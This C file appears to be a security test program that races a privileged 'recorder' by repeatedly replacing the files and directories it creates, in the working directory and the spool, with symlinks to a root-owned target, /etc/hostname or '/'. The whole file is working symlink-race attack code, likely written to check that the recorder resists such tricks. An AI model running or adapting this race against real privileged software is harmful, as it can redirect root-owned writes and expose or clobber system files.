/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Replaces all that the recorder makes, in the attacker's directory and in that of the spool, by
 * links to a directory of root, named by the argument; and makes other directories and files there.
 */
#include "attack.h"

#include <dirent.h>
#include <sys/stat.h>

enum { MS = 400 };

static bool is_own(const char *name)
{
	return strncmp(name, "attack.", 7) == 0 || strncmp(name, "aside", 5) == 0 ||
	       strcmp(name, ".") == 0 || strcmp(name, "..") == 0;
}

/* The link leads to a file in it in place of a file, to the directory itself in place of a
 * directory. */
static void swap(int at, const char *name, const char *root, unsigned number)
{
	struct stat status;
	char aside[64], to[4096];

	if (fstatat(at, name, &status, AT_SYMLINK_NOFOLLOW) || S_ISLNK(status.st_mode))
		return;
	snprintf(aside, sizeof(aside), "aside-%d-%u", (int)getpid(), number);
	snprintf(to, sizeof(to), "%s%s", root, S_ISDIR(status.st_mode) ? "" : "/in/secret");
	if (renameat(at, name, at, aside) == 0 && symlinkat(to, at, name))
		perror(name);
}

static void swap_all(const char *path, const char *root, unsigned *number)
{
	DIR *directory = opendir(path);
	struct dirent *entry;

	while (directory && (entry = readdir(directory)))
		if (!is_own(entry->d_name))
			swap(dirfd(directory), entry->d_name, root, (*number)++);
	if (directory)
		closedir(directory);
}

static void litter(const char *path)
{
	char name[4096];

	snprintf(name, sizeof(name), "%s/attacker-made-this", path);
	mkdir(name, 0777);
	snprintf(name, sizeof(name), "%s/trouble-1", path);
	(void)!symlink("/etc/hostname", name);
	if (rename(path, "aside-spool") == 0)
		(void)!symlink("/", path);
}

int main(int count, char **words)
{
	const char *spool = getenv(SPOOL_ENVIRONMENT);
	uint64_t begin_ns = monotonic_ns();
	unsigned number = 0;

	if (count < 2)
		return 2;
	attack_begin();
	if (attack_survive()) { /* one of them continues while the recorder finishes its file */
		usleep(MS * 1000);
		return 0;
	}
	while (attack_goes_on(begin_ns, 30000)) {
		swap_all(".", words[1], &number);
		litter(spool);
		litter("/run/pscal");
	}
	return 0;
}
